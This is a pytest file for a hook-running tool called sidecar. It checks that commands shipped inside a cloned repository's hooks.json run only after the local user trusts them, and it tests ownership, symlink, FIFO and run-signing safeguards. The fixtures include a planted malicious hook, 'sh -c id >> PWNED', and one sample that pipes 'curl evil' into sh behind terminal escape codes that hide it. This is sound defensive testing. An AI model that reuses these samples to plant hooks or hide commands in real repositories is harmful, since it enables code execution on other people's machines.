"""Nothing a cloned repository ships runs here until this machine's user trusts it."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import orjson
import pytest

from helpers import emit, read_json, run_cli, wait_until
from sidecar.followups import trust
from sidecar.followups.model import Run
from sidecar.layout import Workspace

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")


def git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd,
                   check=True, capture_output=True)


def evil_clone(tmp_path: Path, pwned: Path, with_pending: bool) -> Path:
    """The issue's repro: a repository that commits `.context/runtime/hooks.json` (`git add
    -f`) with a command hook and, optionally, a queue entry that is due already."""
    evil = tmp_path / "evil"
    runtime = evil / ".context/runtime"
    runtime.mkdir(parents=True)
    doc = {"version": 1,
           "hooks": {"post-task": {"id": "post-task", "name": "post-task", "event": "session-end",
                                   "delaySeconds": 1, "promptFile": None,
                                   "action": ["sh", "-c", f"id >> {pwned}"], "enabled": True}},
           "pending": [{"hookId": "post-task", "host": "claude-code", "sessionId": "x1",
                        "dueAt": "2020-01-01T00:00:00Z"}] if with_pending else []}
    (runtime / "hooks.json").write_bytes(orjson.dumps(doc))
    (runtime / "inbox").mkdir()
    (runtime / "inbox/planted.json").write_bytes(
        b'{"event": "session-end", "session_id": "x2", "host": "claude-code"}')
    git("init", "-q", cwd=evil)
    git("add", "-f", ".", cwd=evil)
    git("commit", "-qm", "x", cwd=evil)
    clone = tmp_path / "clone"
    git("clone", "-q", str(evil), str(clone), cwd=tmp_path)
    return clone


def end_session(root: Path, session: str) -> None:
    emit(root, None, "session-start", "--session-id", session, "--source", "claude-code")
    emit(root, None, "session-end", "--session-id", session, "--source", "claude-code")


def last_status(ws: Workspace, hook: str = "post-task") -> str | None:
    return read_json(ws.hooks_file)["hooks"][hook].get("lastStatus")


@needs_git
@pytest.mark.slow
@pytest.mark.parametrize("with_pending", [True, False], ids=["due-entry", "no-entry"])
def test_a_cloned_repositorys_command_runs_only_once_trusted_then_exactly_once(
        tmp_path, config_home, start_daemon, with_pending):
    pwned = tmp_path / "PWNED"
    clone = evil_clone(tmp_path, pwned, with_pending)
    ws = Workspace(clone)
    daemon = start_daemon(extra=[])  # the service: serves the registry, picks up new ones
    init = run_cli("init", str(clone))
    assert init.returncode == 0, init.stderr
    out = init.stdout.decode()
    assert "did not write" in out and "runtime.untrusted-" in out
    assert f"post-task: sh -c 'id >> {pwned}'  (to run it: sidecar hooks trust post-task)" in out
    assert "wrote the default post-task hook" not in out  # the shipped definition was kept
    [aside] = (clone / ".context").glob("runtime.untrusted-*")
    assert (aside / "hooks.json").exists() and (aside / "inbox/planted.json").exists()
    assert read_json(ws.hooks_file)["pending"] == []  # the shipped queue is not adopted
    wait_until(lambda: any(p.get("role") == "leader" for p in map(read_json, ws.instances.glob("*.json"))), 15)
    time.sleep(4)  # the repro ran its command about 3 s after init
    assert not pwned.exists()

    status = run_cli("status", "--root", str(clone))
    assert f"NOT TRUSTED on this machine, so not run: sh -c 'id >> {pwned}'" in status.stdout.decode()
    doctor = run_cli("doctor", cwd=clone)
    assert f"hook post-task's command is not trusted on this machine, so it does not run: sh -c 'id >> {pwned}'" \
        in doctor.stdout.decode()
    assert "sidecar hooks trust post-task" in doctor.stdout.decode()

    end_session(clone, "first")  # a session end: still nothing runs
    wait_until(lambda: last_status(ws) == trust.NOT_TRUSTED, 15)
    assert not pwned.exists()

    refused = run_cli("hooks", "trust", "post-task", "--root", str(clone))  # no tty, no --yes
    assert refused.returncode == 1 and b"--yes" in refused.stderr
    trusted = run_cli("hooks", "trust", "post-task", "--yes", "--root", str(clone))
    assert trusted.returncode == 0
    assert f"sh -c 'id >> {pwned}'" in trusted.stdout.decode()  # shown before it is trusted
    assert "NOT TRUSTED" not in run_cli("status", "--root", str(clone)).stdout.decode()

    end_session(clone, "second")
    wait_until(lambda: last_status(ws) == "ok", 15)
    time.sleep(2)  # nothing else is queued: it stays at one run
    assert len(pwned.read_text().splitlines()) == 1
    assert read_json(ws.hooks_file)["pending"] == []
    assert daemon.proc.poll() is None


def test_a_command_hook_the_user_adds_runs_without_a_trust_step(workspace, start_daemon, tmp_path):
    out = tmp_path / "ran"
    added = run_cli("hooks", "add", "note", "--delay", "0", "--root", str(workspace.root), "--",
                    "sh", "-c", f'echo "$SIDECAR_SESSION_ID" >> {out}')
    assert added.returncode == 0, added.stderr
    start_daemon(workspace.root)
    end_session(workspace.root, "mine")
    wait_until(out.exists, 15)
    assert out.read_text() == "mine\n"
    wait_until(lambda: last_status(workspace, "note") == "ok", 15)


def test_a_hand_edited_command_is_not_run_until_trusted_again(workspace, start_daemon, tmp_path):
    out = tmp_path / "ran"
    assert run_cli("hooks", "add", "note", "--delay", "0", "--root", str(workspace.root), "--",
                   "sh", "-c", f"echo first >> {out}").returncode == 0
    doc = read_json(workspace.hooks_file)
    doc["hooks"]["note"]["action"] = ["sh", "-c", f"echo edited >> {out}"]  # a pull, a hand edit
    workspace.hooks_file.write_bytes(orjson.dumps(doc))
    status = run_cli("status", "--root", str(workspace.root), "--json")
    [note] = [h for h in orjson.loads(status.stdout)["workspaces"][0]["hooks"] if h["id"] == "note"]
    assert note["trusted"] is False
    assert f"sh -c 'echo edited >> {out}'" in run_cli("hooks", "list", "--root",
                                                     str(workspace.root)).stdout.decode()
    start_daemon(workspace.root)
    end_session(workspace.root, "one")
    wait_until(lambda: last_status(workspace, "note") == trust.NOT_TRUSTED, 15)
    assert not out.exists()
    assert run_cli("hooks", "trust", "note", "--yes", "--root", str(workspace.root)).returncode == 0
    end_session(workspace.root, "two")
    wait_until(lambda: last_status(workspace, "note") == "ok", 15)
    assert out.read_text() == "edited\n"


def test_trust_is_per_workspace_and_per_exact_command(tmp_path, config_home):
    a, b = Workspace(tmp_path / "a"), Workspace(tmp_path / "b")
    for ws in (a, b):
        ws.ensure_runtime()
    argv = ["sh", "-c", "echo hi"]
    trust.trust(a, argv, 0.0)
    assert trust.is_trusted(a, argv)
    assert not trust.is_trusted(b, argv)  # another workspace (a clone of the same repo)
    assert not trust.is_trusted(a, ["sh", "-c", "echo hi "])  # one byte changed
    assert not (a.context / "trust.json").exists()  # kept in the user's folder, never here
    assert (config_home / "trust.json").exists()


def test_a_trust_file_anyone_else_may_write_counts_for_nothing(tmp_path, config_home):
    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    argv = ["true"]
    trust.trust(ws, argv, 0.0)
    os.chmod(config_home / "trust.json", 0o666)
    assert not trust.is_trusted(ws, argv)


def test_a_resume_hook_needs_no_trust(workspace):
    result = run_cli("hooks", "trust", "post-task", "--yes", "--root", str(workspace.root))
    assert result.returncode == 0 and b"needs no trust" in result.stdout


def test_re_initialising_a_registered_workspace_moves_nothing(workspace, tmp_path):
    assert run_cli("hooks", "add", "note", "--root", str(workspace.root), "--",
                   "true").returncode == 0
    again = run_cli("init", str(workspace.root))
    assert again.returncode == 0 and b"did not write" not in again.stdout
    assert not list(workspace.context.glob("runtime.untrusted-*"))
    assert "note" in read_json(workspace.hooks_file)["hooks"]


def test_a_clone_keeps_its_session_records_and_bindings(tmp_path, config_home):
    """dotcontext's session records are data: they stay, so a session left active is still
    completed as before; only what could make sidecar act moves aside."""
    root = tmp_path / "clone"
    runtime = root / ".context/runtime"
    (runtime / "sessions/abc").mkdir(parents=True)
    (runtime / "sessions/abc/session.json").write_bytes(b'{"id": "abc", "status": "active"}')
    (runtime / "hooks").mkdir()
    (runtime / "hooks/host-sessions.json").write_bytes(b'{"version": 1, "bindings": []}')
    (runtime / "instances").mkdir()
    (runtime / "instances/dead.json").write_bytes(b'{"pid": 1}')
    result = run_cli("init", str(root))
    assert result.returncode == 0, result.stderr
    assert b"instances/ with 1 file(s)" in result.stdout
    assert (runtime / "sessions/abc/session.json").exists()
    assert (runtime / "hooks/host-sessions.json").exists()
    assert not (runtime / "instances/dead.json").exists()
    assert b"wrote the default post-task hook" in result.stdout  # nothing shipped to keep


def test_kill_running_signals_only_what_this_users_sidecar_started(workspace, tmp_path):
    """A run record planted in hooks.json names a process sidecar never started."""
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"],
                              start_new_session=True)
    try:
        from sidecar.procwatch import start_time

        doc = read_json(workspace.hooks_file)
        doc["pending"] = [{"hookId": "post-task", "host": "claude-code", "sessionId": "x",
                           "dueAt": "2020-01-01T00:00:00Z", "claimedBy": "someone",
                           "run": {"pid": victim.pid, "start": start_time(victim.pid),
                                   "log": "x.log", "startedAt": "2020-01-01T00:00:00Z"}}]
        workspace.hooks_file.write_bytes(orjson.dumps(doc))
        result = run_cli("hooks", "kill-running", "--root", str(workspace.root))
        assert b"no follow-up action is running" in result.stdout
        time.sleep(0.3)
        assert victim.poll() is None
    finally:
        victim.send_signal(signal.SIGKILL)
        victim.wait()


def test_a_run_record_proves_who_wrote_it(tmp_path, config_home):
    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    run = trust.sign(ws, "post-task:claude-code:s", Run(1234, 99, "a.log", "2026-01-01T00:00:00Z"))
    assert trust.is_ours(ws, "post-task:claude-code:s", run)
    run.pid = 1  # the same record, another process
    assert not trust.is_ours(ws, "post-task:claude-code:s", run)
    assert not trust.is_ours(ws, "post-task:claude-code:s", Run(1234, 99, "a.log", "x"))
    assert oct((config_home / "run-key").stat().st_mode & 0o777) == "0o600"


def test_a_daemon_that_cannot_become_the_owner_runs_nothing(tmp_path, config_home, monkeypatch):
    """Not root, and the workspace is someone else's: the firing says so and nothing runs."""
    from test_followups import SID, Harness, ev

    from sidecar.timeutil import iso

    h = Harness(tmp_path)  # the seeded post-task hook: a resume, which needs no trust
    h.apply(ev("SessionStart", session=SID), ev("SessionEnd", session=SID, ts=1_795_900_001.0))
    owner_uid = os.stat(h.ws.root).st_uid
    monkeypatch.setattr(os, "geteuid", lambda: owner_uid + 4242)
    from freezegun import freeze_time

    with freeze_time(iso(1_795_900_030.0)):
        h.fire_due()
    status = h.hook("post-task").last_status
    assert status.startswith(f"error: {h.ws.root} belongs to uid {owner_uid}")
    assert "cannot act as its owner; nothing was run" in status
    assert not list((h.ws.logs / "hooks").rglob("*.log"))  # nothing was started


# -- what the review of the first version found ---------------------------------------------

def test_shown_commands_cannot_redraw_the_line_they_are_on():
    """A command hiding a carriage return and an erase-line would show as a harmless one."""
    argv = ["sh", "-c", "curl evil | sh\r\x1b[2K  echo hi"]
    text = trust.shown(argv)
    assert "\r" not in text and "\x1b" not in text
    assert "\\r\\x1b[2K" in text


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give folders to other users")
def test_the_owner_is_whoever_could_replace_the_workspace(tmp_path, config_home):
    """A link on the way, or a folder of one user inside another's, decides nothing: a root
    daemon would otherwise take a workspace for root's and act as root."""
    from sidecar.owner import CannotActAsOwner, owner_uid

    real = tmp_path / "real"
    (real / ".context").mkdir(parents=True)
    assert owner_uid(Workspace(real)) == 0  # every folder on the way is root's
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(CannotActAsOwner, match="is a symlink"):
        owner_uid(Workspace(tmp_path / "link"))
    outer = tmp_path / "alice"
    (outer / "bob" / ".context").mkdir(parents=True)
    os.chown(outer, 65534, 65534)
    assert owner_uid(Workspace(outer)) == 65534
    os.chown(outer / "bob", 65533, 65533)
    with pytest.raises(CannotActAsOwner, match="who could replace it"):
        owner_uid(Workspace(outer / "bob"))
    root_owned_inside = outer / "rootdir"
    (root_owned_inside / ".context").mkdir(parents=True)
    assert owner_uid(Workspace(root_owned_inside)) == 65534  # alice could swap it: hers


def test_a_fifo_where_a_trace_belongs_is_refused_at_once(tmp_path, config_home):
    """A planted FIFO at sessions/<id>/trace.jsonl would block the daemon's next write."""
    import threading

    from sidecar import jsonfile

    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    folder = ws.sessions / "abc"
    folder.mkdir()
    os.mkfifo(folder / "trace.jsonl")
    done = threading.Event()
    errors: list[BaseException] = []

    def append() -> None:
        try:
            jsonfile.append_lines(folder / "trace.jsonl", [{"x": 1}])
        except (OSError, ValueError) as exc:
            errors.append(exc)
        done.set()

    threading.Thread(target=append, daemon=True).start()
    assert done.wait(5), "the append waited on the FIFO"
    assert errors


def test_a_claim_owner_that_is_a_path_names_no_instance(tmp_path, config_home):
    from sidecar.daemon.instances import is_alive

    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    outside = tmp_path / "elsewhere.lock"
    outside.write_bytes(b"")
    assert not is_alive(ws, "../../elsewhere")
    assert not (ws.locks / "instance-..").exists()


def test_a_workspace_reached_through_a_link_trusts_nothing(tmp_path, config_home):
    """status and doctor ask for trust too: a link on the path means no owner to trust for,
    so every command reads untrusted (never an error, never the link's target's trust)."""
    from sidecar.followups.model import new_hook

    real = Workspace(tmp_path / "real")
    real.ensure_runtime()
    argv = ["true"]
    trust.trust(real, argv, 0.0)
    (tmp_path / "link").symlink_to(real.root)
    hook = new_hook("cmd", "cmd", 0.0, action=argv, promptFile=None)
    assert trust.untrusted(real, [hook]) == []
    assert trust.untrusted(Workspace(tmp_path / "link"), [hook]) == [hook]
